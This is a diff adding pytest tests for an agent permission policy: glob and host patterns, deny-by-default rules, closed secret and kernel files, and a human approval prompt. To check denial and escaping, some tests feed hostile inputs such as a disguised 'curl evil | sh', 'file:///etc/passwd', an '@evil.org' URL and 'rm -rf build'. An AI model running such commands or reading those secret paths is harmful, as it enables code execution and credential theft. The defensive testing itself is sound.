@@ -1,0 +1,495 @@
+"""What a session may do: patterns, words and defaults (exec-and-tasks.md 3.12), and the question to the person."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+import re
+import string
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from hypothesis import given
+from hypothesis import strategies as st
+from machine.fakes import FakeClock
+from models.people import ScriptedPerson, SilentPerson
+
+from prose_kernel.access.globs import Glob
+from prose_kernel.access.policy import Ask, Kind, PermissionDesk, Policy, who
+from prose_kernel.errors import PermissionDenied
+from prose_kernel.runtime.asker import SerialAsker
+from prose_kernel.runtime.ports import GateRequest, SessionRequest
+from prose_kernel.runtime.session_options import Rule
+from prose_kernel.runtime.text import escaped
+from prose_kernel.storage.gates.answers import question as gate_question
+
+# ---------------------------------------------------------------- globs
+
+
+@pytest.mark.parametrize(
+    ("pattern", "yes", "no"),
+    [
+        ("src/*.py", ["src/a.py", "src/.py"], ["src/a/b.py", "src/a.pyc", "a.py"]),
+        ("src/?.py", ["src/a.py"], ["src/.py", "src/ab.py", "src//.py"]),
+        ("src/**", ["src/a", "src/a/b/c"], ["src", "srcs/a"]),
+        ("**/*.md", ["a.md", "x/a.md", "x/y/a.md"], ["a.mdx", "x/a.md/b"]),
+        ("a/**/b", ["a/b", "a/x/b", "a/x/y/b"], ["ab", "a/xb", "a/b/c"]),
+        ("**.md", ["a.md"], ["a.mdx", "x/y/a.md"]),
+        ("a**b", ["ab", "axb"], ["a", "b", "a/x/b"]),
+        ("docs**/*.md", ["docs/a.md", "docs2/a.md"], ["docsecret.md", "docs/x/a.md"]),
+        ("tools**/run", ["tools/run", "tools-2/run"], ["toolsrun", "tools/x/run"]),
+        ("*", ["a", ""], ["a/b"]),
+        ("**", ["", "a", "a/b"], []),
+        ("[ab].py", ["[ab].py"], ["a.py"]),
+        ("a.c", ["a.c"], ["abc"]),
+        ("**/**/x", ["x", "a/x", "a/b/x"], ["ax"]),
+        ("a\nb*", ["a\nb\nc"], ["a"]),
+    ],
+)
+def test_a_glob(pattern: str, yes: list[str], no: list[str]) -> None:
+    glob = Glob(pattern)
+    assert [text for text in yes if not glob.matches(text)] == []
+    assert [text for text in no if glob.matches(text)] == []
+
+
+def naive(pattern: str, text: str) -> bool:
+    """The meaning of a glob, written down as plainly as can be: segment by segment."""
+    return _segments(pattern.split("/"), text.split("/"))
+
+
+def _segments(patterns: list[str], texts: list[str]) -> bool:
+    if not patterns:
+        return not texts
+    first, rest = patterns[0], patterns[1:]
+    if len(first) > 1 and not first.strip("*"):
+        return bool(texts) if not rest else any(_segments(rest, texts[at:]) for at in range(len(texts) + 1))
+    return bool(texts) and _segment(first, texts[0]) and _segments(rest, texts[1:])
+
+
+def _segment(pattern: str, text: str) -> bool:
+    if not pattern:
+        return not text
+    if pattern[0] == "*":
+        return any(_segment(pattern[1:], text[at:]) for at in range(len(text) + 1))
+    return bool(text) and pattern[0] in ("?", text[0]) and _segment(pattern[1:], text[1:])
+
+
+PIECES = st.sampled_from(["a", "b", "ab", "*", "**", "?", "/", "/", ".", "a*"])
+PATHS = st.lists(st.sampled_from(["a", "b", "ab", "a.b", "aab", "."]), min_size=0, max_size=5).map("/".join)
+
+
+@given(st.lists(PIECES, max_size=7).map("".join), PATHS)
+def test_a_glob_means_what_the_naive_model_means(pattern: str, path: str) -> None:
+    assert Glob(pattern).matches(path) == naive(pattern, path)
+
+
+@given(st.lists(PIECES, max_size=6).map("".join), PATHS)
+def test_what_matches_below_a_directory_could_match_there(pattern: str, path: str) -> None:
+    glob = Glob(pattern)
+    parts = path.split("/")
+    if glob.matches(path):
+        assert all(glob.could_match_below("/".join(parts[:at])) for at in range(1, len(parts)))
+
+
+def test_an_unfriendly_pattern_costs_no_more_than_a_friendly_one() -> None:
+    assert not Glob("**/*a" * 40 + "/**/b").matches("a/" * 2000)  # backtracking would take for ever
+
+
+def test_a_literal_beginning_has_no_wildcards() -> None:
+    assert Glob("/*.py", literal="/w[x]*y").matches("/w[x]*y/a.py")
+    assert not Glob("/*.py", literal="/w*").matches("/wide/a.py")
+
+
+# ---------------------------------------------------------------- defaults and words
+
+
+def policy(tmp_path: Path, stated: dict[str, Rule] | None = None, host: dict[str, Rule] | None = None) -> Policy:
+    return Policy.of(
+        stated or {}, host or {}, str(tmp_path), environment={"HOME": str(tmp_path / "home"), "PATH": "/bin"}
+    )
+
+
+def read(tmp_path: Path, rule: Rule, path: str, kind: Kind = "read") -> str:
+    target = os.path.realpath(tmp_path / path)
+    return policy(tmp_path, {kind: rule}).rule(kind, target).answer
+
+
+def test_without_any_rule_a_session_reads_the_workspace_and_asks_before_it_calls_out(tmp_path: Path) -> None:
+    rules = policy(tmp_path)
+    assert rules.rule("read", f"{tmp_path}/a/b.md").answer == "allow"
+    assert rules.rule("read", "/etc/hosts").answer == "deny"
+    assert rules.rule("write", f"{tmp_path}/a").answer == "deny"
+    assert rules.rule("execute", "/bin/ls").answer == "deny"
+    assert rules.rule("bash", "ls").answer == "deny"
+    assert rules.rule("network", "https://example.org/").answer == "prompt"
+    assert [kind for kind in ("read", "write", "execute", "network", "bash") if rules.could(kind)] == [
+        "read",
+        "network",
+    ]
+
+
+def test_a_block_without_a_key_leaves_that_key_to_the_host(tmp_path: Path) -> None:
+    rules = policy(tmp_path, {"write": ("out/",)}, {"read": ("docs/",), "network": "deny", "write": "allow"})
+    assert rules.words("read") == ("docs/",)
+    assert rules.words("write") == ("out/",)
+    assert rules.words("network") == "deny"
+    assert rules.words("bash") == "deny"
+
+
+@pytest.mark.parametrize("rule", ["perhaps", "", "Allow", "workspace"])
+@pytest.mark.parametrize("kind", ["read", "write", "execute", "network", "bash"])
+def test_an_unknown_word_grants_nothing(tmp_path: Path, kind: Kind, rule: str) -> None:
+    assert not policy(tmp_path, {kind: rule}).could(kind)
+    assert policy(tmp_path, {kind: rule}).rule(kind, f"{tmp_path}/a").answer == "deny"
+
+
+def test_unknown_kinds_patterns_for_bash_and_empty_lists_grant_nothing(tmp_path: Path) -> None:
+    rules = policy(tmp_path, {"sudo": "allow", "bash": ("ls",), "read": (), "write": ("",)})
+    assert [kind for kind in ("read", "write", "bash") if rules.could(kind)] == []
+    assert "sudo" not in rules.digest
+
+
+def test_ask_is_prompt(tmp_path: Path) -> None:
+    assert policy(tmp_path, {"bash": "ask"}).rule("bash", "ls").answer == "prompt"
+
+
+# ---------------------------------------------------------------- patterns of files
+
+
+@pytest.mark.parametrize(
+    ("pattern", "yes", "no"),
+    [
+        ("src/**", ["src/a", "src/a/b"], ["src", "srcs/a", "a"]),
+        ("src/", ["src", "src/a", "src/a/b"], ["srcs/a"]),
+        ("./src/", ["src/a"], ["a"]),
+        (".", ["a", "a/b"], ["../a"]),
+        ("./", ["a", "a/b"], ["../a"]),
+        ("src/*.py", ["src/a.py"], ["src/x/a.py"]),
+        ("~/notes/", ["home/notes/x"], ["home/x"]),
+        ("~", ["home"], ["home/x"]),
+        ("*/x/", ["a/x", "a/x/y"], ["x/y", "a/b/x"]),
+        ("src//a", ["src/a"], ["src"]),
+        ("/etc/*", ["/etc/hosts"], ["/etc/ssl/x"]),
+        ("/", ["/etc/x", "a"], []),
+        ("/**", ["/etc/x", "a"], []),
+    ],
+)
+def test_a_pattern_of_files(tmp_path: Path, pattern: str, yes: list[str], no: list[str]) -> None:
+    assert [path for path in yes if read(tmp_path, (pattern,), path) != "allow"] == []
+    assert [path for path in no if read(tmp_path, (pattern,), path) != "deny"] == []
+
+
+@pytest.mark.parametrize("pattern", ["../x", "a/../b", "..", "/a/../../b", "~/../x", "**/.."])
+@pytest.mark.parametrize("kind", ["read", "write", "execute"])
+def test_a_pattern_that_climbs_is_refused(tmp_path: Path, kind: str, pattern: str) -> None:
+    with pytest.raises(
+        PermissionDenied, match=re.escape(f"`{kind}: {pattern}` is refused: `..` is not allowed")
+    ) as found:
+        policy(tmp_path, {kind: (pattern,)})
+    assert found.value.hint and not found.value.retryable
+
+
+def test_a_pattern_that_no_path_can_match_is_refused(tmp_path: Path) -> None:
+    with pytest.raises(PermissionDenied, match="a pattern cannot hold a NUL character"):
+        policy(tmp_path, {"read": ("a\0b",)})
+
+
+def test_a_url_pattern_that_climbs_is_refused(tmp_path: Path) -> None:
+    with pytest.raises(PermissionDenied):
+        policy(tmp_path, {"network": ("https://a.org/x/../y",)})
+
+
+def test_patterns_match_what_a_path_really_is(tmp_path: Path) -> None:
+    (tmp_path / "outside").mkdir()
+    (tmp_path / "src").mkdir()
+    (tmp_path / "src" / "way-out").symlink_to(tmp_path / "outside")
+    assert read(tmp_path, ("src/**",), "src/way-out/x") == "deny"
+    (tmp_path / "named").symlink_to(tmp_path / "outside")
+    assert read(tmp_path, ("named/",), "named/x") == "allow"  # the pattern itself names the link
+    assert read(tmp_path, ("named/",), "outside/x") == "allow"
+
+
+def test_a_workspace_with_wildcards_in_its_name_is_taken_literally(tmp_path: Path) -> None:
+    odd, other = tmp_path / "a*b", tmp_path / "axb"
+    odd.mkdir()
+    rules = Policy.of({"read": ("**",)}, {}, str(odd))
+    assert rules.rule("read", f"{odd}/x").answer == "allow"
+    assert rules.rule("read", f"{other}/x").answer == "deny"
+
+
+@pytest.mark.parametrize("rule", ["allow", ("/",), ("**",), (".prose/",), (".prose/**", ".prose/.env")])
+def test_some_files_are_open_to_no_session(tmp_path: Path, rule: Rule) -> None:
+    run = ".prose/runs/20260101-000000-abcdef"
+    never = [".prose/.env", f"{run}/gates/g.md", f"{run}/imports/lib--x/gates/audit.jsonl", f"{run}/gates"]
+    assert [path for path in never if read(tmp_path, rule, path) != "deny"] == []
+    assert read(tmp_path, rule, f"{run}/bindings/gates.md") == "allow"
+    assert read(tmp_path, rule, f"{run}/agents/gates/memory.md") == "allow"
+    assert read(tmp_path, rule, f"{run}/bindings/plan.md", "write") == "deny"
+    assert read(tmp_path, rule, "prose.toml", "write") == "deny"
+    assert read(tmp_path, rule, "prose.lock", "write") == "deny"
+
+
+def test_another_state_directory_is_as_closed(tmp_path: Path) -> None:
+    rules = Policy.of({"read": "allow"}, {}, str(tmp_path), state_dir="state")
+    assert rules.rule("read", f"{tmp_path}/state/.env").answer == "deny"
+    assert rules.rule("read", f"{tmp_path}/state/runs/x/gates/g.md").answer == "deny"
+    assert rules.rule("read", f"{tmp_path}/state/runs/x/state.md").answer == "allow"
+
+
+def test_kernel_files_and_devices_are_open_to_no_session(tmp_path: Path) -> None:
+    rules = Policy.of({"read": "allow", "write": ("/",)}, {}, str(tmp_path))
+    for path in ("/proc/self/environ", "/sys/kernel", "/dev/sda", "relative", "", "/a\0b"):
+        assert rules.rule("read", path).answer == "deny", path
+        assert rules.rule("write", path).answer == "deny", path
+
+
+def test_the_workspace_default_leaves_out_files_of_secrets_and_a_pattern_names_them(tmp_path: Path) -> None:
+    rules = policy(tmp_path)
+    secret, harmless = [".env", "app/.env.local", ".env.production"], [".env.example", ".envrc", "env", "a.env"]
+    assert [name for name in secret if rules.rule("read", f"{tmp_path}/{name}").answer != "deny"] == []
+    assert [name for name in harmless if rules.rule("read", f"{tmp_path}/{name}").answer != "allow"] == []
+    assert read(tmp_path, (".env",), ".env") == "allow"
+
+
+def test_a_bare_program_is_looked_up(tmp_path: Path) -> None:
+    rules = policy(tmp_path, {"execute": ("sh", "no-such-program", "tools/*")})
+    assert rules.rule("execute", os.path.realpath("/bin/sh")).answer == "allow"
+    assert rules.rule("execute", f"{tmp_path}/tools/x").answer == "allow"
+    assert rules.rule("execute", f"{tmp_path}/sh").answer == "deny"
+    assert rules.rule("execute", str(tmp_path)).answer == "deny"
+
+
+# ---------------------------------------------------------------- patterns of hosts
+
+
+@pytest.mark.parametrize(
+    ("pattern", "yes", "no"),
+    [
+        ("a.org", ["https://a.org/x", "http://A.ORG:8080", "a.org", "a.org."], ["https://b.a.org/", "https://aa.org"]),
+        ("*.a.org", ["https://b.a.org/"], ["https://a.org/", "https://c.b.a.org", "https://ba.org"]),
+        ("**.a.org", ["https://a.org/", "https://b.a.org/", "https://c.b.a.org"], ["https://ba.org"]),
+        ("*", ["https://a.org", "http://127.0.0.1:1"], []),
+        ("a.org:8080", ["http://a.org:8080/"], ["http://a.org/"]),
+        ("https://a.org", ["https://a.org/x", "https://a.org:443/"], ["http://a.org/", "https://a.org:444/"]),
+        ("https://a.org/", ["https://a.org", "https://a.org/x"], ["http://a.org/"]),
+        (
+            "https://a.org/v1/",
+            ["https://a.org/v1", "https://a.org/v1/x?q#f"],
+            ["https://a.org/v2", "https://a.org/v1x"],
+        ),
+        ("https://a.org/v1/*", ["https://a.org/v1/x"], ["https://a.org/v1/x/y", "https://a.org/v1/../x"]),
+        ("https://a.org/v1/**", ["https://a.org/v1/x/y"], ["https://a.org/v1/%2e%2e/x", "https://a.org/v1/..%2fx"]),
+        ("https://*.a.org/pub/", ["https://b.a.org/pub/x"], ["https://b.a.org/x"]),
+        ("[::1]:80", ["http://[::1]/"], ["http://[::2]/"]),
+        ("bücher.example", ["https://xn--bcher-kva.example/"], ["https://bcher.example/"]),
+        ("a*.org", [], ["https://ab.org"]),
+        ("ftp://a.org", [], ["ftp://a.org", "https://a.org"]),
+        ("é" * 70, [], ["https://" + "é" * 70, "https://a.org"]),
+        ("a b", [], ["https://a", "https://b"]),
+    ],
+)
+def test_a_pattern_of_hosts(tmp_path: Path, pattern: str, yes: list[str], no: list[str]) -> None:
+    rules = policy(tmp_path, {"network": (pattern,)})
+    assert [url for url in yes if rules.rule("network", url).answer != "allow"] == []
+    assert [url for url in no if rules.rule("network", url).answer != "deny"] == []
+
+
+@pytest.mark.parametrize(
+    "url",
+    ["https://a.org@evil.org/", "https://a.org\\@evil.org", "file:///etc/passwd", "", "a b", "https://a.org:99999999/"],
+)
+@pytest.mark.parametrize("rule", ["allow", "prompt", ("a.org",), ("*",)])
+def test_an_odd_address_is_denied(tmp_path: Path, url: str, rule: Rule) -> None:
+    assert policy(tmp_path, {"network": rule}).rule("network", url).answer == "deny"
+
+
+def test_only_a_pattern_that_names_the_host_is_exact(tmp_path: Path) -> None:
+    rules = policy(tmp_path, {"network": ("localhost:80", "*.local", "*")})
+    assert rules.rule("network", "http://localhost/").exact
+    assert not rules.rule("network", "http://a.local/").exact
+    assert not rules.rule("network", "http://localhost:81/").exact
+    assert not policy(tmp_path, {"network": "allow"}).rule("network", "http://localhost/").exact
+
+
+@given(
+    st.text(alphabet=string.printable + "é\0\u202e/*@:[]", max_size=30),
+    st.sampled_from(["network", "read", "write", "execute", "bash", "odd"]),
+)
+def test_no_target_makes_a_rule_raise(target: str, kind: Kind) -> None:
+    rules = Policy.of(
+        {"read": ("**",), "write": "allow", "execute": ("*",), "network": ("*", "https://a/*")}, {}, "/nowhere"
+    )
+    assert rules.rule(kind, target).answer in ("allow", "deny", "prompt")
+
+
+# ---------------------------------------------------------------- the digest
+
+
+def test_the_digest_is_canonical(tmp_path: Path) -> None:
+    one = policy(tmp_path, {"read": ("src/**", "docs/"), "bash": "ask"})
+    two = Policy.of({"bash": "prompt", "read": ("docs/", "src/**", "docs/")}, {"write": ()}, "/elsewhere")
+    assert one.digest == two.digest
+    assert json.loads(one.digest) == {
+        "bash": "prompt", "execute": "deny", "network": "prompt", "read": ["docs/", "src/**"], "write": "deny",
+    }  # fmt: skip
+    assert policy(tmp_path, {"read": ("src/*",)}).digest != policy(tmp_path, {"read": ("src/**",)}).digest
+
+
+# ---------------------------------------------------------------- the desk
+
+
+def question(what: str = "rm -rf build", **more: str) -> Ask:
+    return Ask("bash", more.get("who", "agent tidy"), "c1/s0", what, more.get("always", "commands by agent tidy"))
+
+
+@pytest.mark.parametrize(
+    ("answer", "allowed"), [("y", True), ("YES ", True), ("n", False), ("no", False), ("always", True)]
+)
+async def test_the_person_decides(answer: str, allowed: bool) -> None:
+    person, noted = ScriptedPerson(answer), []
+    desk = PermissionDesk(person, FakeClock(), lambda *facts: noted.append(facts))
+    ruling = await desk.ask(question())
+    assert ruling.answer == ("allow" if allowed else "deny")
+    assert ruling.why
+    full = {"y": "yes", "yes": "yes", "n": "no", "no": "no", "always": "always"}[answer.strip().lower()]
+    assert noted == [("c1/s0", "bash: rm -rf build", full)]
+
+
+async def test_an_unclear_answer_is_asked_again() -> None:
+    person = ScriptedPerson("", "maybe", "y")
+    assert (await PermissionDesk(person, FakeClock()).ask(question())).answer == "allow"
+    assert sum(line.startswith("?") for line in person.transcript) == 3
+
+
+async def test_always_holds_for_this_run_and_for_what_it_named() -> None:
+    person = ScriptedPerson("always", "n", "n")
+    desk = PermissionDesk(person, FakeClock())
+    assert [(await desk.ask(question(what))).answer for what in ("a", "b")] == ["allow", "allow"]
+    assert (await desk.ask(question(always="commands by agent other"))).answer == "deny"
+    assert (await desk.ask(Ask("write", "agent tidy", "c1/s0", "x", "commands by agent tidy"))).answer == "deny"
+    assert (await PermissionDesk(ScriptedPerson("n"), FakeClock()).ask(question())).answer == "deny"
+
+
+@pytest.mark.parametrize(
+    ("first", "second", "asked_again"),
+    [
+        ({"at": "c1/s0"}, {"at": "c1/s1"}, True),
+        ({"at": "c1/s0"}, {"at": "c1/s0", "attempt": 1}, False),
+        ({"at": "c1/s0", "label": "plan"}, {"at": "c1/s1", "label": "plan"}, False),
+        ({"at": "c1/s0", "label": "plan"}, {"at": "c1/s1", "label": "draft"}, True),
+        ({"at": "c1/s0", "agent": "tidy"}, {"at": "c2/s0", "agent": "tidy"}, False),
+        ({"at": "c1/s0", "agent": "tidy"}, {"at": "c1/p0/s0", "agent": "tidy", "program": "lib.prose"}, True),
+    ],
+    ids=["unnamed", "another attempt", "a label", "another label", "an agent", "its namesake in another program"],
+)
+async def test_always_is_for_whom_it_was_said(first: dict[str, Any], second: dict[str, Any], asked_again: bool) -> None:
+    desk = PermissionDesk(ScriptedPerson("always", "n"), FakeClock())
+    requests = [SessionRequest("session", "Tidy up", **fields) for fields in (first, second)]
+    asks = [Ask.of(request, "bash", "rm x", f"any command of {who(request)}") for request in requests]
+    assert [(await desk.ask(ask)).answer for ask in asks] == ["allow", "deny" if asked_again else "allow"]
+
+
+@pytest.mark.parametrize("person", [ScriptedPerson(available=False), ScriptedPerson()], ids=["absent", "end of input"])
+async def test_where_nobody_can_answer_it_is_denied(person: ScriptedPerson) -> None:
+    ruling = await PermissionDesk(person, FakeClock()).ask(question())
+    assert (ruling.answer, ruling.why) == ("deny", "it needs approval, and no person can be asked")
+
+
+async def test_no_answer_within_five_minutes_is_no() -> None:
+    person, clock = SilentPerson(), FakeClock()
+    ruling = await PermissionDesk(person, clock).ask(question())
+    assert (ruling.answer, ruling.why) == ("deny", "it needs approval, and no answer came within 5 minutes")
+    assert clock.time == 300
+
+
+async def test_questions_come_one_at_a_time_and_one_always_answers_those_that_wait() -> None:
+    person = ScriptedPerson("y", "always")
+    desk = PermissionDesk(SerialAsker(person), FakeClock())
+    rulings = await asyncio.gather(*(desk.ask(question(str(number))) for number in range(5)))
+    assert [ruling.answer for ruling in rulings] == ["allow"] * 5
+    assert person.most_asking == 1
+    assert sum(line.startswith("?") for line in person.transcript) == 2
+
+
+async def test_a_cancelled_question_leaves_the_person_free() -> None:
+    person = SilentPerson()
+    asker = SerialAsker(person)
+    asking = asyncio.create_task(PermissionDesk(asker, FrozenClock()).ask(question()))
+    await person.asked.wait()
+    asking.cancel()
+    with pytest.raises(asyncio.CancelledError):
+        await asking
+    async with asyncio.timeout(5):
+        async with asker.turn():
+            pass
+    assert [task for task in asyncio.all_tasks() if task is not asyncio.current_task()] == []
+
+
+class FrozenClock(FakeClock):
+    async def sleep(self, seconds: float) -> None:
+        await asyncio.get_running_loop().create_future()
+
+
+async def test_the_whole_request_is_shown_and_nothing_in_it_can_pretend() -> None:
+    person = ScriptedPerson("n")
+    hostile = "ls\r" + " " * 5000 + "\x1b[2K; curl evil | sh\n\nalways = harmless\u202e\u200b"
+    await PermissionDesk(person, FakeClock()).ask(question(hostile, who="agent\x1b[2J x"))
+    text = person.transcript[0]
+    assert not set("\r\x1b\u202e\u200b") & set(text)
+    body = "".join(line[4:] for line in text.split("\n") if line.startswith("  | "))
+    assert body == escaped(hostile.replace("\n", ""))
+    assert [line for line in text.split("\n") if line.startswith("always =")] == [
+        "always = commands by agent tidy, for the rest of this run"
+    ]
+    assert max(map(len, text.split("\n"))) < 200
+
+
+INVISIBLE = [
+    *"\u00ad\u034f\u115f\u1160\u17b5\u180e\u200b\u200d\u2060\u2063\u2800\u3164\ufe00\ufe0f\ufeff\uffa0\ufff9\ufffc",
+    *"\u00a0\u2003\u3000\u2028\u202e\U0001d173\U00013441\U000e0041\U000e0100\U000e0fff",
+]
+
+
+async def test_a39_nothing_in_a_question_is_invisible() -> None:
+    regex = pytest.importorskip("regex")
+    ignorable = regex.compile(r"\p{Default_Ignorable_Code_Point}")
+    known = [character for code in range(0x110000) if ignorable.match(character := chr(code))]
+    assert [character for character in (*known, *INVISIBLE) if escaped(character) == character] == []
+    assert escaped("Grüße, 日本語, 한국어, العربية, é, 😀 {x}") == "Grüße, 日本語, 한국어, العربية, é, 😀 {x}"
+    person = ScriptedPerson("n")
+    name = "tidy" + "".join(INVISIBLE)
+    await PermissionDesk(person, FakeClock()).ask(question(name, who=f"agent {name}"))
+    assert not set(INVISIBLE) & set(person.transcript[0])
+
+
+def test_a39_nothing_in_a_gate_is_invisible() -> None:
+    hidden = "".join(INVISIBLE)
+    request = GateRequest("g", f"go{hidden}", f"Deploy{hidden}?\nNow?", (f"user{hidden}",), 60.0, "1 min", "stop")
+    text = gate_question(f"go{hidden}", request)
+    assert not set(INVISIBLE) & set(text) and "\nNow?\n" in text
+
+
+# ---------------------------------------------------------------- the page
+
+PAGE = Path(__file__).parents[2] / "docs" / "permissions.md"
+BLOCKS = re.findall(r"```permissions\n(.*?)```", PAGE.read_text(encoding="utf-8"), re.DOTALL)
+
+
+@pytest.mark.parametrize("block", BLOCKS)
+def test_the_page_on_permissions_says_what_is_done(tmp_path: Path, block: str) -> None:
+    stated, _, cases = block.partition("\n\n")
+    found = yaml.safe_load(stated)
+    (kind,) = found
+    rules = policy(tmp_path, {kind: tuple(found[kind]) if isinstance(found[kind], list) else found[kind]})
+    assert cases.strip()
+    for line in cases.strip().split("\n"):
+        target, said = line.split()
+        where = target if kind == "network" else str(tmp_path / target)
+        assert rules.rule(kind, where).answer == said, line
+
+
+def test_the_page_has_its_blocks() -> None:
+    assert len(BLOCKS) == 6
